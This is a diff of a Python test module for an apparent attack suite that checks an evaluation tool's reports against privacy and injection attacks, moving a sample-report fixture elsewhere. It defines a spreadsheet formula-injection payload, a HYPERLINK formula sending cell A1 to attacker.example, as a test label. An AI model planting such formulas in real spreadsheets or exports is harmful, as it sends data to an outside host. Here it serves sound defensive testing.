@@ -1,6 +1,7 @@
 """Runs attacked by the suite: every command once per data set (session-scoped).
 
-* the shipped sample with its shipped config (``report``);
+* the shipped sample with its shipped config (``report``): the session's sample report of
+  ``tests/conftest.py`` (the same command, also with the PDF; the attacks read its files);
 * a small extract (1,200 simulated persons, about 400 in the cohort, a custody group of about 80):
   rare jurisdiction labels (a name and street address held by 3 people, a hamlet by 2), a
   jurisdiction label that is a spreadsheet formula (held by 120 people, so it is published), and
@@ -23,8 +24,6 @@ import pytest
 
 from tests.attack._attacks import Context
 
-REPO = Path(__file__).resolve().parents[2]
-SAMPLE = REPO / "data" / "sample"
 RARE_LABELS = ("Smith, 12 High Street", "hamlet")
 FORMULA_LABEL = '=HYPERLINK("http://attacker.example/?x="&A1)'
 #: exit codes a command may end with after writing its outputs (3: the design gate withheld effects)
@@ -95,13 +94,6 @@ def _run(args: list[str]) -> int:
     from altmeasures_eval.cli import main
 
     return main(args)
-
-
-@pytest.fixture(scope="session")
-def sample_report(tmp_path_factory: pytest.TempPathFactory) -> Path:
-    out = tmp_path_factory.mktemp("attack-sample") / "report"
-    assert _run(["report", "--config", str(SAMPLE / "evaluation.toml"), "--out", str(out), "--quiet", "--no-pdf"]) in WRITTEN
-    return out
 
 
 @pytest.fixture(scope="session")
